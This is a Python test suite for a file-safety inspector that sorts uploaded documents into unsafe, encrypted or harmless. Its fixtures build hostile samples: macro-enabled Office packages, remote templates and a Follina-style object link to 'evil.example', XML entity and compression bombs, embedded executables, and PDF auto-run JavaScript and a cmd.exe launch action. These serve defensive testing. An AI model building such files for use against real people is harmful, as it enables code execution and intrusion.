"""The first look at a file: what is locked, what is dangerous, and what only seems so."""

from __future__ import annotations

import io
import time

import pytest

from parsers.magic import identify
from parsers.safety.inspect import inspect
from parsers.values import Reason
from tests.hostile import office, ole, zips
from tests.hostile.office import external, package, pdf, stream

SETTINGS_RELS = "word/_rels/settings.xml.rels"
ODT = (b"mimetype", b"application/vnd.oasis.opendocument.text")
EXE = b"MZ\x90\x00" + bytes(60) + b"This program cannot be run in DOS mode"
BILLION_LAUGHS = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'
COMMENT_FIRST = b'<?xml version="1.0"?><!-- ' + b"x" * 500 + b" --><!DOCTYPE x SYSTEM 'http://x/'><x/>"
JS = b"<</S/JavaScript/JS(app.alert(1))>>"

UNSAFE: list[tuple[str, bytes]] = [
    ("exe", EXE),
    ("docm", package("docx", {"word/vbaProject.bin": b"x"})),
    ("xlsm", package("xlsx", {"xl/vbaProject.bin": b"x"})),
    ("macro-sheet", package("xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"})),
    ("macro-content-type", package("docx", {"[Content_Types].xml": b"application/vnd.ms-word.document.macroEnabled.main+xml"})),
    ("template-from-the-net", package("docx", {SETTINGS_RELS: external("attachedTemplate", "http://evil.example/x.dotm")})),
    ("template-from-a-share", package("docx", {SETTINGS_RELS: external("attachedTemplate", "file://///evil/x.dotm")})),
    ("follina", package("docx", {"word/_rels/document.xml.rels": external("oleObject", "mhtml:http://evil.example/x!")})),
    ("doctype", package("docx", {"word/settings.xml": BILLION_LAUGHS})),
    ("doctype-after-a-comment", package("docx", {"word/settings.xml": COMMENT_FIRST})),
    (
        "doctype-utf16",
        package("docx", {"word/settings.xml": '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x []><x/>'.encode("utf-16")}),
    ),
    ("package-bomb", office.package_bomb()),
    ("embedded-exe", package("docx", {"word/embeddings/oleObject1.bin": EXE})),
    (
        "embedded-exe-in-ole",
        package("docx", {"word/embeddings/oleObject1.bin": ole.compound({"\x01Ole10Native": b"\x00\x00form.exe\x00" + EXE})}),
    ),
    ("embedded-docm", package("docx", {"word/embeddings/a.docx": package("docx", {"word/vbaProject.bin": b"x"})})),
    ("doc-with-vba", ole.word(**{"Macros/VBA/dir": b"x", "Macros/VBA/_VBA_PROJECT": b"x"})),
    ("xls-with-vba", ole.compound({"Workbook": b"\x09\x08\x04\x00\x00\x06\x05\x00\x0a\x00\x00\x00", "_VBA_PROJECT_CUR/VBA/dir": b"x"})),
    ("xls-macro-sheet", ole.workbook((0x85, b"\x00\x00\x00\x00\x00\x01\x05\x00Macro"))),
    (
        "ppt-with-vba",
        ole.compound({"PowerPoint Document": b"\x02\x00\x00\x04\x0c\x00\x00\x00" + b"\x01\x00\x00\x00" * 2 + b"\x02\x00\x00\x00"}),
    ),
    ("doc-with-packaged-exe", ole.word(**{"ObjectPool/_1/\x01Ole10Native": b"\x00\x00a.exe\x00" + EXE})),
    ("odt-basic", zips.raw_zip([ODT, (b"Basic/Standard/Module1.xml", b"<x/>")], method=0)),
    ("rtf-package", b"{\\rtf1{\\object{\\*\\objdata 0105" + b"Package\x00x.exe\x00".hex().encode() + b"}}}"),
    ("rtf-template", b"{\\rtf1{\\*\\template http://evil.example/x}}"),
    ("pdf-open-script", pdf(JS, root=b"/OpenAction 4 0 R")),
    ("pdf-page-script", pdf(b"<</Type/Action/S /JavaScript /JS 5 0 R>>", stream(b"app.alert(1)"))),
    ("pdf-escaped-script", pdf(b"<</S/J#61vaScript/J#53(app.alert(1))>>")),
    ("pdf-names-script", pdf(b"<</Names[(a) 5 0 R]>>", JS, root=b"/Names<</JavaScript 4 0 R>>")),
    ("pdf-launch", pdf(b"<</S/Launch/F(cmd.exe)>>", root=b"/OpenAction 4 0 R")),
    ("pdf-script-in-object-stream", pdf(stream(b"5 0 " + JS, b"/Type/ObjStm/N 1/First 4"))),
    ("pdf-embedded-exe", pdf(stream(EXE, b"/Type/EmbeddedFile"), b"<</Type/Filespec/F(a.txt)/EF<</F 4 0 R>>>>")),
    ("pdf-flate-bomb", pdf(stream(bytes(200 << 20)))),
    ("pdf-double-flate-bomb", pdf(stream(bytes(200 << 20), times=2))),
    ("png-30000", office.png(30_000, 30_000)),
]


def looked_at(data: bytes, name: str = "申报表.docx") -> tuple[Reason | None, list[str]]:
    refusal, notes = inspect(identify(name, data), data)
    return (refusal.reason if refusal else None), [note.code for note in notes]


@pytest.mark.parametrize("data", [data for _, data in UNSAFE], ids=[name for name, _ in UNSAFE])
def test_dangerous_files_are_refused_quickly(data: bytes) -> None:
    started = time.process_time()
    assert looked_at(data)[0] is Reason.UNSAFE
    assert time.process_time() - started < 3


LOCKED: list[tuple[str, bytes]] = [
    ("docx", ole.compound({"EncryptedPackage": b"x", "EncryptionInfo": b"x"})),
    ("doc", ole.word(encrypted=True)),
    ("xls", ole.workbook((0x2F, bytes(6)))),
    ("ppt", ole.compound({"PowerPoint Document": b"", "EncryptedSummary": b""})),
    (
        "odt",
        zips.raw_zip([ODT, (b"META-INF/manifest.xml", b"<m><encryption-data/></m>")], method=0),
    ),
]


@pytest.mark.parametrize("data", [data for _, data in LOCKED], ids=[name for name, _ in LOCKED])
def test_locked_office_files(data: bytes) -> None:
    assert looked_at(data) == (Reason.ENCRYPTED, [])


@pytest.mark.parametrize(("user", "algorithm"), [("secret", "RC4-128"), ("secret", "AES-256"), ("", "RC4-128"), ("", "AES-256")])
def test_a_pdf_is_locked_only_by_a_user_password(user: str, algorithm: str) -> None:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt(user, "owner", algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    reason, notes = looked_at(out.getvalue())
    assert (reason, notes) == ((Reason.ENCRYPTED, []) if user else (None, ["owner-password"]))


def test_a_script_in_an_owner_locked_pdf() -> None:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf(JS, root=b"/OpenAction 4 0 R"))))
    writer.encrypt("", "owner", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    assert looked_at(out.getvalue())[0] is Reason.UNSAFE


HARMLESS: list[tuple[str, bytes, list[str]]] = [
    ("docx", package(), []),
    ("template-on-the-authors-disk", package("docx", {SETTINGS_RELS: external("attachedTemplate", "file:///C:\\Users\\a.dot")}), []),
    ("hyperlink", package("docx", {"word/_rels/document.xml.rels": external("hyperlink", "http://www.caq.org.cn/")}), []),
    ("embedded-workbook", package("docx", {"word/embeddings/a.xlsx": package("xlsx")}), ["embedded-object"]),
    ("doc", ole.word(), []),
    ("doc-with-an-empty-macros-storage", ole.word(**{"Macros/PROJECT": b""}), []),
    ("xls", ole.workbook((0x85, b"\x00\x00\x00\x00\x00\x00\x06\x00Sheet1")), []),
    ("ppt", ole.compound({"PowerPoint Document": b"\x02\x00\x00\x04\x0c\x00\x00\x00" + bytes(12)}), []),
    ("rtf", b"{\\rtf1 hello}", []),
    ("pdf", pdf(stream(b"BT (hello) Tj ET")), []),
    ("pdf-goto", pdf(root=b"/OpenAction[3 0 R/Fit]"), []),
    ("pdf-word-javascript-in-a-stream", pdf(b"<</Length 26>>\nstream\n/S /JavaScript /JS (hello)\nendstream"), []),
    ("pdf-blank-scan", pdf(stream(bytes(26 << 20), b"/Subtype/Image/Width 2480/Height 3508")), []),
    ("pdf-with-a-text-file", pdf(stream(b"hello", b"/Type/EmbeddedFile")), ["embedded-file"]),
    ("png", office.png(2480, 3508), []),
    ("txt", "申报说明".encode(), []),
]


@pytest.mark.parametrize(("data", "notes"), [case[1:] for case in HARMLESS], ids=[case[0] for case in HARMLESS])
def test_harmless_files_pass(data: bytes, notes: list[str]) -> None:
    assert looked_at(data) == (None, notes)


def test_an_empty_file() -> None:
    assert looked_at(b"")[0] is Reason.EMPTY


@pytest.mark.parametrize("whole", [package(), ole.word(), pdf(), office.png(10, 10)], ids=["docx", "doc", "pdf", "png"])
def test_cut_off_files_are_left_to_their_readers(whole: bytes) -> None:
    for size in range(30, len(whole), max(1, len(whole) // 40)):
        assert looked_at(whole[:size])[0] is None
